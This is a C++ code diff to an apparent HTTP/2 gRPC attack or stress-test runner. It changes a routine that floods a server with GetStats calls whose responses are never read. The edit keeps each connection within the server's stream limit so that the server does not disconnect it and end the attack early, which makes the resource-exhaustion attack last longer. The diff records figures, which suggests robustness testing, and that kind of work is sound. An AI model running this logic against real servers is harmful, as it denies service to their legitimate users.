@@ -420,23 +420,36 @@ class Runner {
   }
 
   // GetStats calls whose answers are never taken, spread over the attack's
-  // connections (one address each when sources allow); a connection the
-  // server closes is left, the others go on.
+  // connections (one address each when sources allow). Each connection keeps
+  // within the server's SETTINGS_MAX_CONCURRENT_STREAMS (a client over it
+  // loses its connection, which would end the attack early): a call is
+  // started once the server has ended one, so the calls it holds stay open
+  // and the ones it refuses make room; a connection the server closes is
+  // left, the others go on.
   void UnreadUnary() {
     for (int i = 0; i < conns_wanted_ && !Stopped(); ++i) Connect();
     if (conns_.empty()) return;
     buffers_.push_back(H2RawConnection::GrpcPrefix(0));  // an empty GetStatsRequest
     const absl::string_view empty = buffers_.back();
-    std::vector<Outgoing> out;
-    uint64_t whole = 0;
-    for (int s = 0; s < streams_ && !Stopped(); ++s) {
-      H2RawConnection* c = conns_[static_cast<size_t>(s) % conns_.size()].get();
-      if (c->closed()) continue;
-      out.push_back({c, c->StartCall(kGetStatsPath, false), empty, 0, true});
-      if (out.size() >= 1024) whole += SendAll(out);
+    uint64_t sent = 0;
+    while (sent < static_cast<uint64_t>(streams_) && !Stopped()) {
+      bool any_open = false, progress = false;
+      for (auto& c : conns_) {
+        if (c->closed()) continue;
+        any_open = true;
+        const size_t max_open = std::min<uint32_t>(c->peer_max_concurrent_streams(), 1u << 20);
+        while (sent < static_cast<uint64_t>(streams_) && c->open_streams() < max_open &&
+               c->queued_bytes() < kMaxQueued) {
+          const uint32_t stream = c->StartCall(kGetStatsPath, false);
+          c->SendData(stream, empty, /*end_stream=*/true);
+          ++sent;
+          progress = true;
+        }
+      }
+      if (!any_open) break;  // the server closed them all
+      PumpAll(progress ? absl::ZeroDuration() : absl::Milliseconds(5));
     }
-    whole += SendAll(out);
-    r_.figures["calls_sent"] = static_cast<double>(whole);
+    r_.figures["calls_sent"] = static_cast<double>(sent);
     r_.figures["seconds_to_send"] = absl::ToDoubleSeconds(absl::Now() - t0_);
     Hold();
     // Answers the server began (headers); their messages it must keep.
